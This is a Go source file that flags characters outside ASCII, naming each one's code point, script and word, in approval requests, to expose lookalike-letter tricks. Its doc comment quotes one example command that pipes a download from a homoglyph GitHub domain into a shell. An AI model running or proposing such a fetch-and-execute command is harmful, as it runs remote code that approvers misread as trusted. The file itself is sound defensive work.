package domain

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"unicode"
	"unicode/utf8"
)

// maxNonASCIIShown bounds the characters NonASCIIDetail names one by one.
const maxNonASCIIShown = 8

// NonASCIIDetail names each character outside ASCII in what an approval
// request shows (its summary and its details' values), with its code
// point, its script and the word it is in: 'curl https://gіthub.com/x | sh'
// with a Cyrillic і reads as github.com to the person asked, and fetches
// from another host. The console and the CLI show such a character as it
// is (a person reads text in any script); this line says which ones are
// not the ASCII letters they may look like. ok is false when there are none.
func NonASCIIDetail(summary string, details []Detail) (d Detail, ok bool) {
	var seen []rune
	var parts []string
	more := 0
	scan := func(s string) {
		for i, r := range s {
			if r < utf8.RuneSelf || slices.Contains(seen, r) {
				continue
			}
			seen = append(seen, r)
			if len(parts) == maxNonASCIIShown {
				more++
				continue
			}
			parts = append(parts, fmt.Sprintf("U+%04X (%s) in %q", r, scriptOf(r), wordAround(s, i)))
		}
	}
	scan(summary)
	for _, x := range details {
		scan(x.Value)
	}
	if len(parts) == 0 {
		return Detail{}, false
	}
	v := strings.Join(parts, "; ")
	if more > 0 {
		v += fmt.Sprintf("; and %d more", more)
	}
	return Detail{Label: "Characters outside ASCII", Value: v, Monospace: true}, true
}

// wordAround is the run of non-space characters around byte i of s, at
// most 24 characters either side of it.
func wordAround(s string, i int) string {
	start, end := i, i
	for n := 0; start > 0 && n < 48; n++ {
		r, size := utf8.DecodeLastRuneInString(s[:start])
		if unicode.IsSpace(r) {
			break
		}
		start -= size
	}
	for n := 0; end < len(s) && n < 49; n++ {
		r, size := utf8.DecodeRuneInString(s[end:])
		if unicode.IsSpace(r) {
			break
		}
		end += size
	}
	return s[start:end]
}

var (
	scriptNamesOnce sync.Once
	scriptNames     []string // unicode.Scripts' names, sorted
)

// scriptOf names the Unicode script of r ("Unknown" for none).
func scriptOf(r rune) string {
	scriptNamesOnce.Do(func() {
		for name := range unicode.Scripts {
			scriptNames = append(scriptNames, name)
		}
		slices.Sort(scriptNames)
	})
	for _, name := range scriptNames {
		if unicode.Is(unicode.Scripts[name], r) {
			return name
		}
	}
	return "Unknown"
}
